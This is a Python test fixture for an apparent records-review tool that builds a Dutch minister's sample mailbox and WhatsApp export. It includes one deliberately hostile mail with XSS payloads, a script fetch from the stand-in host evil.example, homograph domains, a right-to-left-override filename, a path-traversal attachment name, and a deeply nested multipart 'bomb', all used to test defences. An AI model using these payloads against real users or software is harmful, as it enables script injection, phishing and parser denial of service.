# SPDX-License-Identifier: EUPL-1.2
"""What a minister's device may have sealed in a week, some of it hostile."""

import base64
import struct
import zlib
from datetime import timedelta

from lakzegel_office.collection.model import Query
from lakzegel_office.review.standing import Class
from tests.office.conftest import START

OWN = "minister@minxyz.example"
EVIL = "https://evil.example/beacon"
HTML = """\
<html><head><style>body{{background:url({evil}.css)}}</style><title>x</title>
<meta http-equiv="refresh" content="0;url={evil}"><base href="{evil}"></head>
<body onload="alert(1)"><h1 style="color:red" onclick="alert(1)">Beste minister</h1>
<p>Klik <a href="javascript:alert(1)">hier</a> of op
<a href="https://xn--80ak6aa92e.example/x?a=1">https://www.bank.example/</a>
of <a href="https://\u0430pple.example/login">apple.example</a>.</p>
<script>fetch("{evil}.js")</script><img src="{evil}.gif" width=1><img src=x onerror=alert(1)>
<img src="cid:logo@x" alt="het logo"><svg onload=alert(1)><script>alert(2)</script></svg>
<form action="{evil}"><input name=p><button>Ga</button></form><iframe src="{evil}"></iframe>
<object data="{evil}"></object><embed src="{evil}"><link rel=stylesheet href="{evil}.css">
<div style="position:fixed;inset:0">over alles heen</div>
<table><tr><td colspan=2>Onderwerp</td><td>Bedrag</td></tr></table>
<blockquote>Op maandag schreef Bas: de stukken zijn rond.</blockquote>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></body></html>"""
SUBJECTS = (
    *("Nota ministerraad donderdag", "Re: Nota ministerraad donderdag", "Kamerbrief Q3"),
    *("Verjaardag zaterdag", "Concept persbericht", "Afspraak tandarts", "Kamervragen"),
    *("Partijcongres: sprekerslijst", "Werkbezoek Groningen", "Rooster", "Woo-verzoek 2024-118"),
    *("Bestuurlijk overleg VNG", "Lunch?", "Aanbieding jaarverslag", "Kerstkaart"),
    *("Taakstelling 2025", "Debat begroting", "Oma", "Advies landsadvocaat", "Ledenwerving"),
)
SENDERS = (
    "Anna de Vries <anna@minxyz.example>",
    "Oma <oma@familie.example>",
    "Sprekersbureau <congres@partij.example>",
)
CHAT = """\
11-03-2024 08:01 - Berichten en oproepen worden end-to-end versleuteld.
11-03-2024 08:02 - Anna: Ligt de begroting klaar voor donderdag?
11-03-2024 08:03 - Bas: Ja, de staatssecretaris heeft getekend. Stuk volgt per mail.
11-03-2024 08:05 - Bas: \u200eIMG-20240311-WA0001.jpg (bestand bijgevoegd)
11-03-2024 08:09 - Anna: Mooi. En gefeliciteerd met je dochter!
11-03-2024 08:10 - Bas: <script>alert(1)</script> \u202ednasuohd
11-03-2024 08:12 - Anna: Zaterdag congres, ga je ook?
"""


def png(width=64, height=48, colour=(21, 66, 115)):
    """A real picture of one colour."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = (b"\0" + bytes(colour) * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pieces = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + pieces


def mail(number, subject="Stukken", text="Hierbij.", sender="Anna <anna@x.example>", **fields):
    """A mail of text alone."""
    lines = {
        "Message-ID": f"<{number}@x.example>",
        "From": sender,
        "To": OWN,
        "Date": f"Mon, 11 Mar 2024 08:{number % 60:02}:10 +0100",
        "Subject": subject,
        **{name.replace("_", "-"): value for name, value in fields.items()},
    }
    head = "".join(f"{name}: {value}\n" for name, value in lines.items())
    return f"{head}\n{text}\n".encode()


def parts(number, subject, *pieces, sender="Anna <anna@x.example>"):
    """A mail of several parts: each a header and bytes."""
    kind = 'multipart/mixed; boundary="grens"'
    head = mail(number, subject, "", sender, MIME_Version="1.0", Content_Type=kind).rstrip(b"\n")
    coded = "Content-Transfer-Encoding: base64"
    body = b"".join(
        f"--grens\n{header}\n{coded}\n\n".encode() + base64.encodebytes(data)
        for header, data in pieces
    )
    return head + b"\n\n" + body + b"--grens--\n"


def hostile(number=90, subject="=?utf-8?q?Factuur=E2=80=AEfdp=2Eexe?=", html=HTML):
    """A mail that tries everything."""
    return parts(
        number,
        subject,
        ("Content-Type: text/html; charset=utf-8", html.format(evil=EVIL).encode()),
        ("Content-Type: image/png\nContent-ID: <logo@x>", png()),
        ('Content-Type: image/svg+xml; name="../../x.svg"', b"<svg onload=alert(1)/>"),
        ('Content-Type: image/png; name="geen.png"', b"<script>alert(1)</script>"),
        ('Content-Type: text/html; name="<img src=x onerror=alert(1)>.html"', b"<p>1</p>"),
        sender="=?utf-8?b?0LBubmE=?= <anna@xn--80ak6aa92e.example>",
    )


def fill(world, device):
    """Seal a week, with agreed contacts and a claim."""
    (world.home.root / "review.toml").write_text(
        f'own = ["mailto:{OWN}"]\n[[contact]]\nclass = "prive"\n'
        'address = "@familie.example"\n[[contact]]\nclass = "partij"\naddress = "@partij.example"\n'
    )
    files = {
        f"INBOX/cur/{n}": [mail(n, subject, "Geachte minister,\n\nHierbij.\n", SENDERS[n % 3])]
        for n, subject in enumerate(SUBJECTS)
    }
    files["INBOX/cur/90"] = [hostile()]
    named = device.send_as("maildir", files)
    row = {"file": named["INBOX/cur/3"], "from": "INBOX/cur/3", "path": "Prive/cur/3"}
    said = {"type": "claim", "class": "prive", "files": [{**row, "versions": 1}]}
    device.send([device.observation(said)])
    device.send_as(
        "whatsapp-export",
        {
            "WhatsApp-chat met Begroting 2025.txt": [CHAT.encode()],
            "IMG-20240311-WA0001.jpg": [png(320, 200, (90, 140, 60))],
        },
    )


def decide(desk):
    """Some decisions, and one dispute; returns the units by subject or first words."""
    units = {unit.subject or unit.snippet: unit.id for unit in desk.collection.units(Query())}
    desk.decide([units["Lunch?"], units["Kerstkaart"]], Class.PRIVATE, "")
    desk.decide([units["Kamerbrief Q3"]], Class.BUSINESS, "besluit")
    desk.dispute([units["Lunch?"]], "ging over de begroting")
    chat = next(unit for text, unit in units.items() if text.startswith("Zaterdag"))
    desk.decide([chat], Class.PARTY, "")
    return units


def later():
    """A day on which some of it is nearly due."""
    return START + timedelta(days=66)


def bomb(depth=200):
    """A mail of parts in parts, deeper than anybody looks."""
    head = mail(91, "Bom", "").decode().rstrip("\n")
    kind = '\nContent-Type: multipart/mixed; boundary="b{0}"\n\n--b{0}'
    nested = "".join(kind.format(n) for n in range(depth))
    return f"{head}{nested}\nContent-Type: text/plain\n\nbinnen\n".encode()
